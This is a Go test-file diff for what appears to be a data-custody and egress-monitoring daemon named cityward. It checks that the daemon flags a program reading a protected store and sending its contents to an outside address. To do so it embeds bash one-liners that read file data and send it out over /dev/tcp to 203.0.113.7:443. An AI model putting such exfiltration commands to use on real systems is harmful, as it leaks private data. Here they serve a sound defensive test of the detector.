@@ -10,6 +10,8 @@ import (
 	"testing"
 	"time"
 
+	"golang.org/x/sys/unix"
+
 	"cityward/agent/report"
 	"cityward/configs"
 )
@@ -19,14 +21,14 @@ import (
 type witness struct {
 	*daemonProcess
 	state, config, policy, store string
-	reader                       string // the program that opened the store
+	reader, sender               string // who opened the store, and who sent
 }
 
 func testify(t *testing.T) *witness {
 	t.Helper()
 	needRoot(t)
 	dir := t.TempDir()
-	w := &witness{state: filepath.Join(dir, "state"), store: filepath.Join(dir, "store"), config: filepath.Join(dir, "cityward.toml"), reader: shellNamed(t, "reader")}
+	w := &witness{state: filepath.Join(dir, "state"), store: filepath.Join(dir, "store"), config: filepath.Join(dir, "cityward.toml"), reader: shellNamed(t, "reader"), sender: shellNamed(t, "sender")}
 	t.Setenv("STATE_DIRECTORY", w.state)
 	for _, made := range []string{w.state, w.store} {
 		if err := os.Mkdir(made, 0o700); err != nil {
@@ -41,27 +43,52 @@ func testify(t *testing.T) *witness {
 	writeFile(t, w.config, w.policy)
 	inside, outside := border(t)
 	listener := listenIn(t, outside, outsideAddress+":443")
-	// Rounds look between the steps: who shall be seen waits.
-	sender := `read -r line; sleep 3; exec 4<>"/dev/tcp/$0/443"; sleep 3 4<&-; echo "$line" >&4; read -r _ <&4`
-	script := `exec 3<"$1"; read -r line <&3; sleep 3 3<&-; echo "$line" | /usr/bin/bash -c "$2" "$3" 3<&-; sleep 100 3<&-`
 	w.daemonProcess = startDaemon(t, os.Args[0], "0", "run", "--config", w.config)
 	w.scrapeUntil(t, `cityward_rounds_total [1-9]`)
-	startProgram(t, "ip", "netns", "exec", inside, w.reader, "-c", script, "read", file, sender, outsideAddress)
+	steps := make(map[string]string)
+	for _, name := range []string{"begin", "connect", "send"} {
+		steps[name] = filepath.Join(dir, name)
+		if err := unix.Mkfifo(steps[name], 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	talk := `read -r line; read -r _ <"$1"; exec 4<>"/dev/tcp/$0/443"; read -r _ <"$2"; echo "$line" >&4; read -r _ <&4`
+	script := `exec 3<"$1"; read -r line <&3; read -r _ <"$4"; "$7" -c "$2" "$3" "$5" "$6" 3<&- <<<"$line"; read -r _ <"$4"`
+	startProgram(t, "ip", "netns", "exec", inside, w.reader, "-c", script, "read", file, talk, outsideAddress, steps["begin"], steps["connect"], steps["send"], w.sender)
+	w.step(t, steps["begin"], "direct")
+	w.step(t, steps["connect"], "descendant")
 	conn, err := listener.Accept()
 	if err != nil {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { conn.Close() })
+	w.step(t, steps["send"], "203.0.113.7,443,outside,,0")
 	if _, err := conn.Read(make([]byte, 7)); err != nil {
 		t.Fatal(err)
 	}
 	w.scrapeUntil(t, `cityward_check_failing\{check="NET-001",severity="critical"\} 1`)
-	w.scrapeUntil(t, `cityward_program_outside_sent_bytes_total\{program="bash"\} 7`)
 	eventually(t, "the ledger has it", func() bool {
 		out, _ := w.says(t, exitDone, "custody", "--since", "1h", "--format", "csv")
 		return strings.Contains(out, ",443,outside,,7,")
 	})
 	return w
+}
+
+// step lets the programs go on when the daemon has seen how far they are.
+func (w *witness) step(t *testing.T, fifo, seen string) {
+	t.Helper()
+	out := ""
+	defer func() {
+		if t.Failed() {
+			t.Log(out)
+		}
+	}()
+	eventually(t, "the daemon sees "+seen, func() bool {
+		out, _ = w.says(t, exitDone, "custody", "--format", "csv")
+		return strings.Contains(out, ","+seen+",")
+	})
+	time.Sleep(2 * time.Second) // the start of a program is known to the second
+	writeFile(t, fifo, "\n")
 }
 
 // says runs a command with the configuration of the daemon.
@@ -80,7 +107,7 @@ func TestCustodyAndFindings(t *testing.T) {
 	if said != "" || !strings.Contains(out, "sent bytes: 7") {
 		t.Errorf("with a daemon, findings says %q", said)
 	}
-	if out, _ := w.says(t, exitDone, "findings", "--format", "csv"); !strings.Contains(out, "registry → "+w.reader+" → /usr/bin/bash → 203.0.113.7:443") {
+	if out, _ := w.says(t, exitDone, "findings", "--format", "csv"); !strings.Contains(out, "registry → "+w.reader+" → "+w.sender+" → 203.0.113.7:443") {
 		t.Errorf("as csv:\n%s", out)
 	}
 	w.resolve(t)
@@ -122,7 +149,7 @@ func (w *witness) showsCustody(t *testing.T, note string, since ...string) {
 		switch h := &holdings[i]; {
 		case h.How == "direct" && *h.Program.Executable == w.reader:
 			direct = h
-		case h.How != "direct" && *h.Program.Executable == "/usr/bin/bash":
+		case h.How != "direct" && *h.Program.Executable == w.sender:
 			descendant = h
 		}
 	}
@@ -146,7 +173,7 @@ func (w *witness) showsCustody(t *testing.T, note string, since ...string) {
 func (w *witness) showsTheWay(t *testing.T, out string) {
 	t.Helper()
 	for _, want := range []string{
-		"registry → " + w.reader + " → /usr/bin/bash → 203.0.113.7:443", "NET-001  critical, fail, since 20", "  → ", w.reader + ", user root: direct, ",
+		"registry → " + w.reader + " → " + w.sender + " → 203.0.113.7:443", "NET-001  critical, fail, since 20", "  → ", w.reader + ", user root: direct, ",
 	} {
 		if !strings.Contains(out, want) {
 			t.Errorf("findings lacks %q:\n%s", want, out)
@@ -182,7 +209,6 @@ func (w *witness) resolve(t *testing.T) {
 func (w *witness) refuses(t *testing.T) {
 	t.Helper()
 	for _, args := range [][]string{
-		{"custody", "archive"},
 		{"custody", "--since", "soon"},
 		{"policy", "learn", "--since", "soon"},
 		{"policy", "test", w.config, "--since", "soon"},
@@ -203,7 +229,7 @@ func (w *witness) refuses(t *testing.T) {
 func (w *witness) learns(t *testing.T) {
 	t.Helper()
 	out, _ := w.says(t, exitDone, "policy", "learn")
-	for _, want := range []string{"[[transfer]]", `networks = ["203.0.113.0/24"]`, "ports = [443]", `programs = ["/usr/bin/bash"]`, `# stores = ["registry"]`, "7 bytes sent"} {
+	for _, want := range []string{"[[transfer]]", `networks = ["203.0.113.0/24"]`, "ports = [443]", `programs = ["` + w.sender + `"]`, `# stores = ["registry"]`, "7 bytes sent"} {
 		if !strings.Contains(out, want) {
 			t.Errorf("the draft lacks %s:\n%s", want, out)
 		}
@@ -218,12 +244,11 @@ func (w *witness) learns(t *testing.T) {
 			t.Errorf("config check of a draft does not demand %s: %s", key, text)
 		}
 	}
-	_, entry, _ := strings.Cut(out, "[[transfer]]")
-	entry, _, _ = strings.Cut(entry, "[[transfer]]")
+	entry := strings.SplitN(out, "\n[[transfer]]\n", 3)[1] // what went with a store's data is first
 	filled := strings.NewReplacer(
 		`# country = ""`, `country = "BE"`, `# stores`, `stores`, `# purpose = ""`, `purpose = "x"`, `# legal_basis = ""`, `legal_basis = "x"`,
 		`# owner = ""`, `owner = "x"`, `# approved_by = ""`, `approved_by = "y"`, `# expires = YYYY-MM-DD`, "expires = "+time.Now().AddDate(0, 6, 0).Format(time.DateOnly),
-	).Replace("\n[[transfer]]" + entry)
+	).Replace("\n[[transfer]]\n" + entry)
 	writeFile(t, draft, w.policy+filled)
 	if _, err := configs.Load(draft); err != nil {
 		t.Fatalf("%v\n%s", err, filled)
@@ -245,7 +270,7 @@ func (w *witness) tries(t *testing.T, draft string) {
 		}
 		gone[c.Check+" "+c.subject()] = true
 	}
-	if !gone["NET-001 registry → 203.0.113.7:443"] || !gone["NET-002 /usr/bin/bash → 203.0.113.0/24 port 443"] || len(got.NotReplayed) < 3 {
+	if !gone["NET-001 registry → 203.0.113.7:443"] || !gone["NET-002 "+w.sender+" → 203.0.113.0/24 port 443"] || len(got.NotReplayed) < 3 {
 		t.Errorf("policy test shows\n%s", out)
 	}
 	if out, _ = w.says(t, exitDone, "policy", "test", w.config); !strings.Contains(out, "no finding appears, vanishes or changes") || !strings.Contains(out, "CANNOT BE REPLAYED") {
@@ -255,10 +280,10 @@ func (w *witness) tries(t *testing.T, draft string) {
 	if out, _ = w.says(t, exitDone, "policy", "test", draft); strings.Count(out, "\nappears ") < 2 || !strings.Contains(out, "registry → 203.0.113.7:443: sent beyond the city") {
 		t.Errorf("the other way round:\n%s", out)
 	}
-	if out, _ = w.says(t, exitDone, "policy", "learn"); strings.Contains(out, "/usr/bin/bash") || !strings.Contains(out, "under transfers in force") {
+	if out, _ = w.says(t, exitDone, "policy", "learn"); strings.Contains(out, w.sender) || !strings.Contains(out, "under transfers in force") {
 		t.Errorf("what is approved is drafted again:\n%s", out)
 	}
-	if out, _ = w.says(t, exitDone, "custody", "--since", "1h"); !strings.Contains(out, "under bash-203-0-113-0-24-443") {
+	if out, _ = w.says(t, exitDone, "custody", "--since", "1h"); !strings.Contains(out, "under sender-203-0-113-0-24-443") {
 		t.Errorf("custody does not name the transfer:\n%s", out)
 	}
 }
